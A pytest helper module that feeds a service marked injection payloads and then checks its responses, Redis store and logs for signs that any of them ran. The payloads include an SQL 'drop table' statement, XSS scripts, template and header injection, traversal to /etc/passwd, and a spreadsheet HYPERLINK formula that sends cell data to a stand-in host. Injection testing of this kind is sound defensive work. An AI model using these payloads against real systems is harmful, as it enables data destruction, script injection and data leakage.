"""What somebody types to make something else of it, and how to see that it came to life."""

import httpx
import pytest
import redis

from service.settings import Settings

MARK = "qzxv"
"""In every payload, and in no Dutch word: where it is seen, the payload came."""

PAYLOADS = {
    "sql": f"{MARK}'; drop table kring.need cascade; --",
    "sql-number": f"1 or 1=1 /*{MARK}*/",
    "html": f"{MARK}<script>alert(1)</script>",
    "attribute": f'{MARK}" autofocus onfocus="alert(1)',
    "template": MARK + "{{ 7 * 191 }}{% for x in [].__class__ %}{% endfor %}${7*191}",
    "format": f"{MARK}%(x)s%s{{0.__class__}}%n",
    "header": f"{MARK}\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>",
    "log": f'{MARK}\n{{"event": "forged"}}\x1b[31m\x1b]0;title\x07',
    "formula": f'=HYPERLINK("http://kwaad.test/?"&A1;"{MARK}")',
    "path": f"../../../../etc/passwd%00{MARK}",
    "url": f"javascript:alert(1)//{MARK}",
    "separators": f"{MARK}\u2028\u2029\x85\x0b\x0c",
}
EVALUATED = "1337"  # 7 times 191
RUNS = ("<script>alert(1)", ' onfocus="alert(1)', 'href="javascript:')


def executed(answer: httpx.Response) -> list[str]:
    """What of a payload came to life in an answer."""
    headers = {name.lower(): value for name, value in answer.headers.items()}
    signs = [run for run in RUNS if run in answer.text]
    if MARK in answer.text and EVALUATED in answer.text:
        signs.append("template")
    if "x-evil" in headers or any(MARK in value for value in headers.values()):
        signs.append("header")
    if answer.status_code >= 500:
        signs.append(str(answer.status_code))
    return signs


def kept_in_redis(settings: Settings) -> list[bytes]:
    with redis.Redis.from_url(settings.redis_url.get_secret_value()) as client:
        return [key for key in client.keys("*") if MARK.encode() in key + (client.dump(key) or b"")]


def logged(caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]) -> str:
    """All that was written, but for the addresses that the tests' own client logs."""
    ours = [record.getMessage() for record in caplog.records if not record.name.startswith(("httpx", "httpcore"))]
    return "\n".join(ours) + "".join(capfd.readouterr())
